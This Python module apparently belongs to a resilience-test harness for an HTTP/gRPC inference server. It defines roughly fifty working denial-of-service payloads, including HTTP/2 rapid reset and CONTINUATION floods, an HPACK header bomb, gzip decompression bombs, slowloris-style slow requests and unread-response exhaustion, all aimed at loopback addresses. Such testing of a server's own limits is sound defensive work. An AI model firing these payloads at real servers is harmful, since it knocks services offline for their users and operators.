"""The attacks, each defined by what one connection sends."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

import hpack

from attacks import bytes_on_the_wire as wire
from attacks.bytes_on_the_wire import MIB, frame, greeting, headers


@dataclass(frozen=True, slots=True)
class Ammunition:
    """The bytes that a connection sends: `opening` once, and then `blob`, which is repeated if `endless`."""

    opening: bytes = b""
    blob: bytes = b""
    endless: bool = True


@dataclass(frozen=True, slots=True)
class Weapon:
    """An attack. `load` builds the bytes to send; it is called in the attacker's process."""

    load: Callable[[], Ammunition]
    connections: int = 8
    #: Whether the attacker reads the server's answers.
    reads: bool = True
    #: The number of bytes that a connection sends every 100 ms; 0 means as many as it can.
    trickle: int = 0
    #: Whether a connection is reopened after it was closed or has sent everything.
    reconnects: bool = True
    #: Whether a connection that has sent everything closes without reading, instead of staying open.
    leaves: bool = False
    #: The attacker's addresses, which take turns. They differ from the honest client's, because one address
    #: may hold a part of each limit.
    sources: tuple[str, ...] = ()
    #: SO_RCVBUF of the attacker.
    receive_buffer: int | None = None
    #: The protocol of the valid load with which an attack is compared whose model takes bodies of any size.
    #: Such an attack may take 64 MiB more memory than that load, others 64 MiB.
    compared: str = ""
    #: Whether the honest client also sends an image as JSON, which is read and written off the event loop.
    image: bool = False


def repeated(piece: bytes, size: int = MIB // 4) -> bytes:
    return piece * max(1, size // len(piece))


def rapid_reset_http() -> Ammunition:
    encoder = hpack.Encoder()
    what = wire.fields("GET", "/v2/health/ready")
    streams = range(1, 40_001, 2)
    return Ammunition(
        greeting(),
        b"".join(headers(encoder, n, what, end=True) + wire.reset(n) for n in streams),
        endless=False,
    )


def rapid_reset_grpc() -> Ammunition:
    encoder = hpack.Encoder()
    message = wire.add1_message()
    blob = b"".join(
        headers(encoder, n, wire.GRPC_FIELDS, end=False) + wire.data(n, message, end=True) + wire.reset(n)
        for n in range(1, 40_001, 2)
    )
    return Ammunition(greeting(), blob, endless=False)


def made_you_reset() -> Ammunition:
    """Makes the server reset a stream by a window increment of 0, after it has received the whole request."""
    encoder = hpack.Encoder()
    message = wire.add1_message()
    blob = b"".join(
        headers(encoder, n, wire.GRPC_FIELDS, end=False)
        + wire.data(n, message, end=True)
        + wire.window_update(n, 0)
        for n in range(1, 40_001, 2)
    )
    return Ammunition(greeting(), blob, endless=False)


def requests_flood() -> Ammunition:
    """Opens more streams than the server announced as its limit, and never ends them."""
    encoder = hpack.Encoder()
    return Ammunition(
        greeting(),
        b"".join(headers(encoder, n, wire.GRPC_FIELDS, end=False) for n in range(1, 40_001, 2)),
        endless=False,
    )


def settings_flood() -> Ammunition:
    return Ammunition(greeting(), repeated(wire.settings((wire.INITIAL_WINDOW_SIZE, 65535))))


def empty_settings_flood() -> Ammunition:
    return Ammunition(greeting(), repeated(wire.settings()))


def settings_with_open_streams() -> Ammunition:
    """Changes the initial window while many streams are open, so that the server must adjust every stream."""
    encoder = hpack.Encoder()
    opened = b"".join(headers(encoder, n, wire.fields("GET", "/"), end=True) for n in range(1, 201, 2))
    change = wire.settings((wire.INITIAL_WINDOW_SIZE, 0)) + wire.settings((wire.INITIAL_WINDOW_SIZE, 1))
    return Ammunition(greeting((wire.INITIAL_WINDOW_SIZE, 0)) + opened, repeated(change))


def ping_flood() -> Ammunition:
    return Ammunition(greeting(), repeated(frame(wire.PING, 0, 0, bytes(8))))


def priority_flood() -> Ammunition:
    return Ammunition(
        greeting(), b"".join(frame(wire.PRIORITY, 0, n, b"\0\0\0\0\x10") for n in range(1, 40_001, 2))
    )


def unknown_flood() -> Ammunition:
    return Ammunition(greeting(), repeated(frame(0x77, 0, 0)))


def empty_data() -> Ammunition:
    return Ammunition(
        greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False),
        repeated(frame(wire.DATA, 0, 1)),
    )


def padded_data() -> Ammunition:
    """Sends frames with one byte of body and 255 of padding, until the window is used up."""
    piece = frame(wire.DATA, 0x8, 1, b"\xff" + b"x" + bytes(255))
    return Ammunition(greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False), repeated(piece))


def empty_continuation() -> Ammunition:
    block = hpack.Encoder().encode(wire.GRPC_FIELDS)
    return Ammunition(greeting() + frame(wire.HEADERS, 0, 1, block), repeated(frame(wire.CONTINUATION, 0, 1)))


def continuation_flood() -> Ammunition:
    """Sends a header block that never ends: literals without indexing, 16 KiB per frame."""
    literal = b"\x00\x03x-a\x7f\x81\x7f" + b"y" * 256
    return Ammunition(
        greeting() + frame(wire.HEADERS, 0, 1, hpack.Encoder().encode(wire.GRPC_FIELDS)),
        repeated(frame(wire.CONTINUATION, 0, 1, (literal * 62)[:16384])),
    )


def window_update_flood() -> Ammunition:
    return Ammunition(greeting(), repeated(wire.window_update(0, 1)))


def window_dribble() -> Ammunition:
    """Makes 100 calls with responses of 600 KB each, and opens the window for them one byte at a time."""
    encoder = hpack.Encoder()
    body = wire.zipped_ident_message()
    what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
    opened = b"".join(
        headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 201, 2)
    )
    return Ammunition(
        greeting((wire.INITIAL_WINDOW_SIZE, 0)) + opened,
        b"".join(wire.window_update(n, 1) for n in range(1, 201, 2)),
    )


def unread_http1() -> Ammunition:
    """Sends requests of 1 KB, and never reads the responses of 600 KB."""
    return Ammunition(b"", repeated(wire.zipped_ident_request()))


def unread_metadata() -> Ammunition:
    return Ammunition(b"", repeated(b"GET /v2/models/ident/config HTTP/1.1\r\nHost: x\r\n\r\n"))


def unread_http2() -> Ammunition:
    """Grants large windows and sends thousands of requests, but never reads a response."""
    encoder = hpack.Encoder()
    opening = greeting((wire.INITIAL_WINDOW_SIZE, 2**31 - 1)) + wire.window_update(0, 2**31 - 1 - 65535)
    what = wire.fields("GET", "/v2/models/ident/config")
    return Ammunition(
        opening, b"".join(headers(encoder, n, what, end=True) for n in range(1, 100_001, 2)), endless=False
    )


def header_bomb() -> Ammunition:
    """Puts a field of 4,000 bytes into the dynamic table, and then sends blocks with 16,000 references to it,
    which decode to 64 MB each.
    """
    encoder = hpack.Encoder()
    first = encoder.encode(wire.fields("GET", "/", ("x-bomb", "b" * 3900)))
    blocks = [frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, first)]
    again = encoder.encode(wire.fields("GET", "/")) + b"\xbe" * 16000
    blocks += [frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, n, again) for n in range(3, 41, 2)]
    return Ammunition(greeting(), b"".join(blocks), endless=False)


def ten_thousand_fields() -> Ammunition:
    encoder = hpack.Encoder()
    block = encoder.encode(wire.fields("GET", "/")) + b"\x00\x01a\x00" * 4000
    return Ammunition(
        greeting(), b"".join(frame(wire.HEADERS, 5, n, block) for n in range(1, 101, 2)), endless=False
    )


def huge_head() -> Ammunition:
    return Ammunition(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ", b"y" * (MIB // 4))


def many_fields() -> Ammunition:
    return Ammunition(b"GET / HTTP/1.1\r\nHost: x\r\n", repeated(b"X: y\r\n"))


def gzip_bomb_http() -> Ammunition:
    return Ammunition(b"", wire.post(wire.ADD1, wire.bomb(), "Content-Encoding: gzip"))


def gzip_bomb_grpc() -> Ammunition:
    """Sends a message of 64 KB, small enough for the first window, that decompresses to 64 MB."""
    encoder = hpack.Encoder()
    what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
    body = wire.grpc_message(wire.bomb(size=63 * MIB), compressed=True)
    blob = b"".join(
        headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 21, 2)
    )
    return Ammunition(greeting(), blob, endless=False)


def slow_heads() -> Ammunition:
    return Ammunition(b"GET / HTTP/1.1\r\nHost: x\r\n", b"X-A: b\r\n" * 40)


def slow_bodies() -> Ammunition:
    return Ammunition(
        f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n".encode(), b"x" * 1000
    )


def slow_frames() -> Ammunition:
    return Ammunition(greeting(), frame(wire.PING, 0, 0, bytes(8)))


def silent() -> Ammunition:
    return Ammunition()


def endless_body(path: str = wire.ADD1) -> Ammunition:
    chunk = b"10000\r\n" + bytes(65536) + b"\r\n"
    return Ammunition(
        f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
        repeated(chunk),
    )


def endless_body_http2(path: str = wire.ADD1) -> Ammunition:
    """Sends a body of unknown size that ignores all windows."""
    begun = headers(hpack.Encoder(), 1, wire.fields("POST", path), end=False)
    return Ammunition(greeting() + begun, repeated(wire.data(1, bytes(65536), end=False)))


def large_request(path: str = wire.ADD1) -> Ammunition:
    """Sends complete requests of almost the permitted 64 MiB that are not JSON."""
    return Ammunition(b"", wire.post(path, bytes(wire.LARGE_TENSOR)))


def large_json() -> Ammunition:
    """Sends valid requests of almost the permitted 64 MiB, all JSON, which take a second to decode."""
    return Ammunition(b"", wire.large_request())


def large_message(model: str = "add1") -> Ammunition:
    """Sends a gRPC message of almost the permitted 64 MiB that ignores all windows."""
    begun = headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False)
    message = wire.begun_message(model, wire.LARGE_TENSOR)
    prefix = b"\0" + (len(message) + wire.LARGE_TENSOR).to_bytes(4, "big")
    return Ammunition(
        greeting() + begun + wire.data(1, prefix + message, end=False),
        repeated(wire.data(1, bytes(65536), end=False)),
    )


def tiny_chunks() -> Ammunition:
    return Ammunition(
        f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
        repeated(b"1\r\nx\r\n"),
    )


def pipelined() -> Ammunition:
    return Ammunition(b"", repeated(b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\n\r\n"))


def pipelined_inference() -> Ammunition:
    return Ammunition(b"", repeated(wire.add1_request()))


def pipelined_garbage() -> Ammunition:
    return Ammunition(b"", repeated(b"G\x00T / HTTP/1.1\r\n\r\n"), endless=False)


def connection_flood() -> Ammunition:
    return Ammunition(
        b"", b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", endless=False
    )


def open_probes() -> Ammunition:
    """Sends health probes over HTTP/2 that never end, with a byte of body now and then."""
    encoder = hpack.Encoder()
    streams = range(1, 241, 2)
    what = wire.fields("GET", "/v2/health/live")
    begun = b"".join(headers(encoder, n, what, end=False) for n in streams)
    return Ammunition(greeting() + begun, b"".join(wire.data(n, b"x", end=False) for n in streams))


def open_calls() -> Ammunition:
    """Begins health checks over gRPC without sending their message."""
    encoder = hpack.Encoder()
    begun = b"".join(headers(encoder, n, wire.LIVE_FIELDS, end=False) for n in range(1, 241, 2))
    return Ammunition(greeting() + begun)


def unread_probes() -> Ammunition:
    """Asks for the metrics, and never opens the windows for the responses."""
    encoder = hpack.Encoder()
    what = wire.fields("GET", "/metrics")
    asked = b"".join(headers(encoder, n, what, end=True) for n in range(1, 241, 2))
    return Ammunition(greeting((wire.INITIAL_WINDOW_SIZE, 0)) + asked)


def event_streams(path: str) -> Ammunition:
    """Opens event streams of the console, which last until the client disconnects."""
    encoder = hpack.Encoder()
    what = wire.fields("GET", path, ("accept", "text/event-stream"))
    return Ammunition(greeting() + b"".join(headers(encoder, n, what, end=True) for n in range(1, 241, 2)))


#: As many addresses as it takes to hold every limit if one address may hold a part of it.
TWO = ("127.0.0.2", "127.0.0.3")


def audit_log_read() -> Ammunition:
    request = f"GET /v2/audit?limit=1000 HTTP/1.1\r\nHost: a\r\n{wire.HOLDER_FIELD}\r\n\r\n".encode()
    return Ammunition(blob=repeated(request, 4096))


def audit_log_flood() -> Ammunition:
    request = wire.post("/v2/models/add1/promote", b'{"version": "none"}', wire.HOLDER_FIELD)
    return Ammunition(blob=repeated(request, 4096))


WEAPONS = {
    "rapid reset, HTTP": Weapon(rapid_reset_http),
    "rapid reset, gRPC": Weapon(rapid_reset_grpc),
    "made-you-reset": Weapon(made_you_reset),
    "streams beyond the limit": Weapon(requests_flood),
    "SETTINGS flood": Weapon(settings_flood),
    "empty SETTINGS flood": Weapon(empty_settings_flood),
    "SETTINGS with open streams": Weapon(settings_with_open_streams),
    "PING flood": Weapon(ping_flood),
    "PRIORITY flood": Weapon(priority_flood),
    "unknown frames flood": Weapon(unknown_flood),
    "empty DATA": Weapon(empty_data),
    "padded DATA": Weapon(padded_data),
    "empty CONTINUATION": Weapon(empty_continuation),
    "CONTINUATION flood": Weapon(continuation_flood),
    "WINDOW_UPDATE flood": Weapon(window_update_flood),
    "window dribble": Weapon(window_dribble),
    "unread answers, HTTP/1.1": Weapon(unread_http1, reads=False, receive_buffer=4096),
    "unread small answers, HTTP/1.1": Weapon(unread_metadata, reads=False, receive_buffer=4096),
    "unread answers, HTTP/2": Weapon(unread_http2, reads=False, receive_buffer=4096),
    "requests and gone": Weapon(unread_http2, reads=False, leaves=True),
    "unread PING answers": Weapon(ping_flood, reads=False, receive_buffer=4096),
    "header bomb": Weapon(header_bomb),
    "4,000 fields": Weapon(ten_thousand_fields),
    "huge head": Weapon(huge_head),
    "endless fields": Weapon(many_fields),
    "gzip bomb, HTTP": Weapon(gzip_bomb_http, connections=4),
    "gzip bomb, gRPC": Weapon(gzip_bomb_grpc, connections=4),
    "slow heads": Weapon(slow_heads, connections=500, trickle=8),
    "slow bodies": Weapon(slow_bodies, connections=500, trickle=8),
    "slow frames": Weapon(slow_frames, connections=500, trickle=1),
    "2,000 silent connections": Weapon(silent, connections=2000, reconnects=False),
    "connection flood": Weapon(connection_flood),
    "endless bodies, HTTP/1.1": Weapon(endless_body, connections=4),
    "endless bodies, HTTP/2": Weapon(endless_body_http2, connections=4),
    "large requests, HTTP/1.1": Weapon(large_request, connections=4),
    "large messages, gRPC": Weapon(large_message, connections=4),
    "endless bodies of any size, HTTP/1.1": Weapon(
        partial(endless_body, wire.ANY_PATH), connections=4, compared="HTTP"
    ),
    "endless bodies of any size, HTTP/2": Weapon(
        partial(endless_body_http2, wire.ANY_PATH), connections=4, compared="gRPC"
    ),
    "requests of any size, HTTP/1.1": Weapon(
        partial(large_request, wire.ANY_PATH), connections=4, compared="HTTP"
    ),
    "JSON of any size, HTTP/1.1": Weapon(large_json, compared="HTTP", image=True),
    "messages of any size, gRPC": Weapon(partial(large_message, wire.ANY), connections=4, compared="gRPC"),
    "tiny chunks": Weapon(tiny_chunks),
    "pipelined requests": Weapon(pipelined),
    "pipelined inference": Weapon(pipelined_inference),
    "pipelined garbage": Weapon(pipelined_garbage),
    "open health probes, HTTP/2": Weapon(open_probes, connections=72, trickle=1, sources=TWO),
    "open health checks, gRPC": Weapon(open_calls, connections=72, sources=TWO),
    "event streams of traces": Weapon(partial(event_streams, "/v2/traces"), connections=72, sources=TWO),
    "event streams of the activity": Weapon(
        partial(event_streams, "/v2/activity"), connections=72, sources=TWO
    ),
    "event streams of the log": Weapon(
        partial(event_streams, "/v2/logging/lines"), connections=72, sources=TWO
    ),
    "unread metrics, HTTP/2": Weapon(unread_probes, connections=72, sources=TWO),
    "reading the audit log": Weapon(audit_log_read, connections=24),
    "filling the audit log": Weapon(audit_log_flood, connections=24),
}
